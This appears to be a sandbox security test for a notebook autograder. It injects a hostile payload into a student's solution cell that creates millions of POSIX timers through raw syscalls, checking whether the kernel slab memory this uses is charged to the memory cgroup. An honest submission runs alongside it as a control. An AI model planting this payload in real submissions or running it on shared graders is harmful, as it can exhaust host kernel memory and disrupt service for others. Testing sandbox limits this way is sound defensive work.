"""a03: kernel objects created by an unprivileged call no rlimit of the sandbox caps, counted against the memory
cgroup or not? The hostile kernel (ps1's first answer cell) creates POSIX timers (timer_create, SIGEV_NONE: no
signal is ever queued) in a loop, reading the host's Slab (/proc/meminfo is the host's) as it goes, and stops at
1.5 GiB of Slab growth, at the first error, or at 4 million timers. From outside, the sampler reads the sandbox's
memory cgroup (usage and peak). Mallory + honest control."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common25 import *  # noqa
from common25 import ROOT  # noqa

A = "ps1_memory"
N = int(os.environ.get("N", "4000000"))
PAYLOAD = r'''
import ctypes as _a3c, os as __os, time as __time
__libc = _a3c.CDLL(None, use_errno=True)
__libc.syscall.restype = _a3c.c_long
def __slab():
    for l in open("/proc/meminfo"):
        if l.startswith(("Slab:", "SUnreclaim:")) and l.startswith("SUnreclaim"):
            return int(l.split()[1]) * 1024
__s0 = __slab()
class __sigev(_a3c.Structure):
    _fields_ = [("value", _a3c.c_long), ("signo", _a3c.c_int), ("notify", _a3c.c_int), ("pad", _a3c.c_int * 12)]
__ev = __sigev(0, 0, 1)  # SIGEV_NONE
__tid = _a3c.c_int(0)
__n, __err, __t0 = 0, None, __time.time()
while __n < NMAX:
    r = __libc.syscall(222, 1, _a3c.byref(__ev), _a3c.byref(__tid))  # timer_create(CLOCK_MONOTONIC)
    if r != 0:
        __err = _a3c.get_errno(); break
    __n += 1
    if __n % 100000 == 0:
        d = __slab() - __s0
        print("TIMERS", __n, "SUnreclaim growth MiB", d >> 20, flush=True)
        if d > 1536 << 20:
            break
print("TIMERS done", __n, "errno", __err, "SUnreclaim growth MiB", (__slab() - __s0) >> 20, "in", round(__time.time() - __t0, 1), "s", flush=True)
__time.sleep(8)
'''.replace("NMAX", str(N))


def hostile():
    from tools.submissions import source_and_release
    import copy
    s, r = source_and_release(A)
    nb = copy.deepcopy(r)
    for c in nb.cells:
        if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            c.source = PAYLOAD + "\n" + c.source
            break
    return nb


def main():
    dest = "/tmp/attack25-a03"
    course(dest, {"mallory": hostile(), "zz_honest": honest(A)}, A)
    s = Sampler(0.5); s.start()
    rc = grade(dest)
    s.stop = True; s.join()
    print("SAMPLER", s.summary())
    sc = scores(dest)
    import glob, nbformat
    for pth in glob.glob(f"{dest}/autograded/mallory/{A}/*.ipynb"):
        nb = nbformat.read(pth, as_version=4)
        for c in nb.cells:
            for o in c.get("outputs", []):
                for line in o.get("text", "").splitlines():
                    if line.startswith("TIMERS"):
                        print(line[:400])
    print(f"RESULT: rc={rc} scores {[(s, v['score'], v['max']) for s, v in sorted(sc.items())]}")
    cleanup(dest)


if __name__ == "__main__":
    main()
